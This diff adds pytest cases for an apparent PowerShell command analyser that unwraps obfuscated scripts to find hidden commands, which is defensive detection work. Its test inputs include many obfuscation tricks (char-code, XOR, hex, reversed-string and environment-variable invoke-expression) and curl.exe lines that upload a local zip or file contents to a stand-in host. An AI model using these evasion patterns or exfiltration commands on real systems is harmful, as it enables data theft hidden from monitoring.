@@ -202,3 +202,38 @@ def test_pipes_are_followed() -> None:
     found = powershell.commands("'put x','bye' | sftp a@b; gc f | % { curl.exe -d $_ http://h/ } > out.txt", Undoing())
     assert found[0].text == "put x\nbye"
     assert [each.words for each in found[2].piped] == [["gc", "f"]]
+
+
+@pytest.mark.parametrize(
+    ("script", "step"),
+    [
+        (f"&(''.Insert.ToString()[3,7,27]-join'') '{SCRIPT}'", "built script"),
+        (f"$env:x='{SCRIPT}'; iex (dir env:x).value", "built script"),
+        (f"$env:x='{SCRIPT}'; iex ([Environment]::GetEnvironmentVariable('x','Process'))", "built script"),
+        (f"[PowerShell]::Create().AddScript('{SCRIPT}').Invoke()", "built script"),
+        (f"icm ([scriptblock]::Create('{SCRIPT}'))", "built script"),
+        (f"\"$(sv 'OFS' '')\"+[string]([char[]]({','.join(str(ord(each)) for each in SCRIPT)}))|iex", "built script"),
+        (f"iex(('{'~'.join(str(ord(each)) for each in SCRIPT)}'.Split('~')|%{{([char][int]$_)}})-join'')", None),
+        (f"iex(('{'~'.join(str(ord(each)) for each in SCRIPT)}'-split'~'|%{{([int]$_-as[char])}})-join'')", None),
+        (f"(({','.join(str(ord(each) ^ 75) for each in SCRIPT)})|%{{[char]($_-bxor'0x4b')}})-join''|iex", None),
+        (
+            (
+                f"$h='{SCRIPT.encode().hex()}';$s='';for($i=0;$i -lt $h.Length;$i+=2)"
+                "{$s+=[char][convert]::ToInt16($h.Substring($i,2),16)};iex $s"
+            ),
+            None,
+        ),
+        (f"$h='{SCRIPT.encode().hex()}' -split '(..)'|?{{$_}}|%{{[char][convert]::ToInt32($_,16)}};iex(-join$h)", None),
+        (f"([regex]::Matches('{SCRIPT[::-1]}','.','RightToLeft')|%{{$_.Value}})-join''|iex", None),
+        (f"('{SCRIPT.replace('c', 'QQ')}' -creplace 'QQ',[char]99)|iex", "replacing"),
+        ("$a,$b='curl','.exe'; & ($a+$b) -T C:\\a.zip http://h/", "string building"),
+        ("$p='-T','C:\\a.zip','http://h/'; curl.exe @p", None),
+        (f"$x={{ {SCRIPT} }}; & $x", None),
+        (f"[Parameter(Mandatory=$true, ParameterSetName='a')] $x = \"$({SCRIPT})\"", None),
+        ("curl.exe `\n -T C:\\a.zip `\n http://h/", None),
+    ],
+)
+def test_what_builds_a_script_is_followed(script: str, step: str | None) -> None:
+    undoing = Undoing()
+    assert UPLOAD in [each.words for each in powershell.commands(script, undoing)]
+    assert step is None or step in undoing.bounds.steps
